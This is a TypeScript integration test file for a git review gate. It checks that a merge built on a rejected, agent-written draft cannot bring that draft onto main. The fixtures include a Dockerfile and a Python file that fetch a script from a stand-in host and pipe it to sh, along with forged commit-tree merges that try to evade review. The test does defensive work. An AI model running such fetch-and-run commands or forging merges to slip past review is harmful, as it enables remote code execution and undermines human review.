import * as assert from 'assert';
import { recordDecision } from '../helpers/approvals';
import { withoutGate } from '../helpers/gateAgreement';
import { passes, refused } from '../helpers/refVerdicts';
import { commitFile, policyJson, setup, snapshotSetup, type Setup } from '../helpers/gateServer';
import type { TempRepo } from '../helpers/tempRepo';

/**
 * Outside tester, session 10, J4/J4b/J4c: a pull request B→E→T whose draft E (an agent's `curl | sh` payload and
 * a Dockerfile change) a reviewer rejected, and whose fix T both reviewers approved (base B). A pusher without a
 * key pushes a merge H with first parent E (or anything built on E), second parent T (or anything built on T)
 * and E's tree: H changes nothing against its first parent, E was "covered" by the approvals of T's range, and
 * main held the rejected payload — server, `verify` and pre-push agreeing ("none blocked"), as a tag too.
 *
 * The rule (docs/design.md, "Approvals"; src/core/statementCoverage.ts): approving T vouches for base→T, and an
 * intermediate commit C of that range only as a step toward T. So C is covered only when everything the push
 * builds on C is inside the approved range. Honest flows (a fast-forward, a merge commit of main and T, a
 * rebased copy, another approved branch built on E) are unchanged, and checked here on the same server.
 */
describe('server gate: a merge built on an intermediate commit of an approved range (real pushes)', function () {
  this.timeout(240_000);

  const HUMAN = 'AI-Provenance: v1 ai=0 human=1 untracked=0';
  const NONE = 'AI-Provenance: v1 ai=0 human=0 untracked=0';
  const AI = 'Assisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=3 human=0 untracked=0';
  const SAFE_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl\n';
  const EVIL_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl && curl https://evil.example/x | sh\n';
  const EARLIER = new Date(Date.now() - 3_600_000).toISOString();

  /**
   * main with a Dockerfile (planted past the gate: its tier is not what these tests are about); then the pull
   * request on `feature`: the agent's draft E (payload + Dockerfile change), Bob's rejection of it, the fix T,
   * and Bob's and Carol's approvals of T against main — pushed with the notes, as a forge's branch holds them.
   */
  function rejectedDraft(s: Setup): { base: string; draft: string; tip: string } {
    const { ada, server } = s;
    commitFile(ada, 'Dockerfile', SAFE_DOCKERFILE, `docker\n\n${HUMAN.replace('human=1', 'human=2')}`);
    withoutGate(server, () => assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
    const base = ada.git('rev-parse', 'HEAD');
    ada.git('checkout', '-q', '-b', 'feature');
    ada.write('payload.py', 'import os\nos.system("curl https://evil.example/x | sh")\n');
    ada.write('Dockerfile', EVIL_DOCKERFILE);
    ada.git('add', '-A');
    const draft = ada.commit(`agent: bootstrap script\n\n${AI}`);
    recordDecision(ada, s.bob, {
      email: 'bob@example.com',
      tip: draft,
      base,
      decision: 'reject',
      time: EARLIER,
      comment: 'no curl|sh, and leave the Dockerfile alone',
    });
    ada.git('rm', '-q', 'payload.py');
    ada.write('Dockerfile', SAFE_DOCKERFILE);
    ada.write('util.py', 'def add(a, b): return a + b\n');
    ada.git('add', '-A');
    const tip = ada.commit(`address review: drop the bootstrap script\n\n${HUMAN}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base });
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip, base });
    const pushed = ada.gitResult(['push', '-q', 'origin', 'feature', 'refs/notes/countersign']);
    assert.strictEqual(pushed.status, 0, pushed.stderr);
    return { base, draft, tip };
  }

  /** setup() then rejectedDraft, built once and copied for each test that starts there (snapshotSetup). */
  function draftSetup(): Setup & ReturnType<typeof rejectedDraft> {
    return snapshotSetup('mergeOnIntermediate:rejectedDraft', () => {
      const s = setup();
      return { ...s, ...rejectedDraft(s) };
    });
  }

  /** A commit with `treeOf`'s tree and these parents, as the attacker writes it (no line of its own). */
  function mergeAs(repo: TempRepo, treeOf: string, parents: string[], subject = "Merge branch 'feature'"): string {
    const args = parents.flatMap((p) => ['-p', p]);
    return repo.git('commit-tree', `${treeOf}^{tree}`, ...args, '-m', `${subject}\n\n${NONE}`);
  }

  it('J4, J4c, an octopus: a merge onto the rejected draft is refused on main and as a tag; T itself still lands', () => {
    const s = draftSetup();
    const { base, draft, tip } = s;
    const draftIsHeld = /agent: bootstrap script|changes requested|request(ed)? changes|reject/i;
    // J4: first parent the draft, second the approved tip, the draft's tree.
    const h = mergeAs(s.ada, draft, [draft, tip]);
    refused(s, h, 'refs/heads/main', draftIsHeld);
    refused(s, h, 'refs/tags/v9.9', draftIsHeld);
    // J4c: the second parent an empty, honestly attested commit on top of T.
    const t2 = mergeAs(s.ada, tip, [tip], 'chore: empty');
    refused(s, mergeAs(s.ada, draft, [draft, t2]), 'refs/heads/main', draftIsHeld);
    // The first parent an empty commit on top of the draft.
    const e2 = mergeAs(s.ada, draft, [draft], 'chore: empty');
    refused(s, mergeAs(s.ada, draft, [e2, tip]), 'refs/heads/main', draftIsHeld);
    // An octopus with main first: its first-parent diff is the draft's own change, which "the draft is judged on
    // its own" leaves to the draft.
    refused(s, mergeAs(s.ada, draft, [base, draft, tip]), 'refs/heads/main', draftIsHeld);
    assert.strictEqual(s.server.gitResult(['cat-file', '-e', 'main:payload.py']).status, 128);
    // What the reviewers approved lands: a fast-forward to T (E is a step toward it), and a tag of it.
    passes(s, tip, 'refs/heads/main');
    assert.strictEqual(s.server.git('show', 'main:Dockerfile'), SAFE_DOCKERFILE.trimEnd());
  });

  it('two pushes: the range on a protected release branch, or T already on main, then the merge', () => {
    const s = draftSetup();
    const { draft, tip } = s;
    // E and T land on a protected branch first (approved), then the merge goes to main.
    passes(s, tip, 'refs/heads/release/1');
    const h = mergeAs(s.ada, draft, [draft, tip]);
    refused(s, h, 'refs/heads/main', /agent: bootstrap script|brings back|reject/i);
    // As a tag, E and T are already on a protected branch: the merge alone is judged, and what it brings back
    // from E's tree (restored lines) holds it.
    refused(s, h, 'refs/tags/v9.9', /brings back|restor/i);
    // T lands on main by itself (approved), then the merge: E is on main already, so the merge's first-parent
    // chain leaves the push at an older commit than main's: restored lines.
    passes(s, tip, 'refs/heads/main');
    refused(s, h, 'refs/heads/main', /brings back|restor/i);
    assert.strictEqual(s.server.gitResult(['cat-file', '-e', 'main:payload.py']).status, 128);
  });

  it('J4b: on the policy branch, a merge onto a draft that loosened the policy is refused', () => {
    const s = setup();
    const { ada } = s;
    const base = ada.git('rev-parse', 'HEAD');
    ada.git('checkout', '-q', '-b', 'policy-tweak');
    ada.write('.countersign.json', policyJson(s.bob, s.carol).replace('"main",', '"nothing-at-all",'));
    ada.git('add', '-A');
    const draft = ada.commit(`policy: try another layout\n\n${HUMAN}`);
    ada.write('.countersign.json', policyJson(s.bob, s.carol));
    ada.write('CONTRIBUTING.md', 'Ask a reviewer.\n');
    ada.git('add', '-A');
    const tip = ada.commit(`policy: keep it; document review\n\n${HUMAN}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base });
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip, base });
    assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'policy-tweak', 'refs/notes/countersign']).status, 0);
    const h = mergeAs(ada, draft, [draft, tip]);
    refused(s, h, 'refs/heads/main', /polic/i);
    assert.match(s.server.git('show', 'main:.countersign.json'), /"main"/);
    passes(s, tip, 'refs/heads/main');
  });

  it('report on a history where such a merge landed (before the fix): the draft is not counted as reviewed', () => {
    const s = draftSetup();
    const { base, draft, tip } = s;
    const h = mergeAs(s.ada, draft, [draft, tip]);
    // The state the old gate let through, planted past the gate.
    withoutGate(s.server, () => assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', `${h}:main`]).status, 0));
    const report = JSON.parse(s.ada.cli(['report', '--format', 'json', `${base}..${h}`]).stdout) as {
      reviewedCommits: number;
    };
    assert.strictEqual(report.reviewedCommits, 1, 'T only: the approvals of T do not make its rejected draft reviewed');
  });

  /** `explain REV --json` for main: who it says approved REV, and its gate verdict; and verify's for the same commit. */
  function explained(s: Setup, rev: string): { counting: string[]; ok: boolean } {
    s.ada.git('fetch', '-q', 'origin');
    const r = s.ada.cli(['explain', rev, '--branch', 'main', '--json']);
    assert.strictEqual(r.status, 0, r.stderr);
    const page = JSON.parse(r.stdout) as {
      approvals: { statements: Array<{ decision: string; reviewer: { email: string }; counts: boolean }> };
      gate: { ok?: boolean };
    };
    const counting = page.approvals.statements.filter((a) => a.decision === 'approve' && a.counts);
    return { counting: counting.map((a) => a.reviewer.email).sort(), ok: page.gate.ok === true };
  }
  function verified(s: Setup, base: string, head: string, sha: string): { counting: string[]; ok: boolean } {
    const r = s.ada.cli(['verify', '--base', base, '--head', head, '--branch', 'main', '--format', 'json']);
    const c = (
      JSON.parse(r.stdout) as { commits: Array<{ sha: string; ok: boolean; approvals: Array<{ reviewer: string }> }> }
    ).commits.find((x) => x.sha === sha);
    assert.ok(c, `verify judged ${sha.slice(0, 7)}: ${r.stdout}`);
    return { counting: c.approvals.map((a) => a.reviewer).sort(), ok: c.ok };
  }

  it('explain agrees with verify on the draft: not approved by T reviewers where a merge is built on it', () => {
    const s = draftSetup();
    const { base, draft, tip } = s;
    const h = mergeAs(s.ada, draft, [draft, tip]);
    const gate = verified(s, base, h, draft);
    assert.deepStrictEqual(gate, { counting: [], ok: false });
    // The state the old gate let through, planted past the gate: explain reads main's history as report does.
    withoutGate(s.server, () => assert.strictEqual(s.ada.gitResult(['push', '-q', 'origin', `${h}:main`]).status, 0));
    assert.deepStrictEqual(explained(s, draft), gate);
    // Honest: T fast-forwarded onto main; E is a step toward T, approved by T's reviewers, here as in verify.
    const honest = draftSetup();
    const range = honest;
    const ff = verified(honest, range.base, range.tip, range.draft);
    assert.deepStrictEqual(ff, { counting: ['bob@example.com', 'carol@example.com'], ok: true });
    passes(honest, range.tip, 'refs/heads/main');
    assert.deepStrictEqual(explained(honest, range.draft), ff);
  });

  it('honest flows: a rebased copy; another approved branch built on E; a merge commit of a moved main and T', () => {
    const s = draftSetup();
    const { ada } = s;
    const { base, draft, tip } = s;
    ada.git('checkout', '-q', 'main');
    commitFile(ada, 'README.md', 'hello, world\n', `readme\n\n${HUMAN}`);
    const moved = ada.git('rev-parse', 'HEAD');
    passes(s, moved, 'refs/heads/main');
    // A rebased copy of the pull request onto the moved main: the approvals are carried commit by commit.
    ada.git('checkout', '-q', '-b', 'rebased', tip);
    ada.git('rebase', '-q', moved);
    const copy = ada.git('rev-parse', 'HEAD');
    assert.notStrictEqual(copy, tip);
    passes(s, copy, 'refs/heads/release/2');
    // A colleague's branch built on the draft, approved as its own tip by both reviewers, lands by itself.
    ada.git('checkout', '-q', '-b', 'colleague', draft);
    const x = commitFile(ada, 'NOTES.md', 'kept the bootstrap script on purpose\n', `notes\n\n${HUMAN}`);
    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: x, base });
    recordDecision(ada, s.carol, { email: 'carol@example.com', tip: x, base });
    assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
    passes(s, x, 'refs/heads/release/3');
    // A merge commit of main and the approved tip (what a forge's merge button writes): E's child on
    // release/3 is not part of this push, so E is a step toward T here.
    ada.git('checkout', '-q', 'main');
    ada.git('merge', '-q', '--no-ff', tip, '-m', `Merge branch 'feature'\n\n${NONE}`);
    passes(s, ada.git('rev-parse', 'HEAD'), 'refs/heads/main');
    assert.strictEqual(s.server.gitResult(['cat-file', '-e', 'main:payload.py']).status, 128);
  });
});
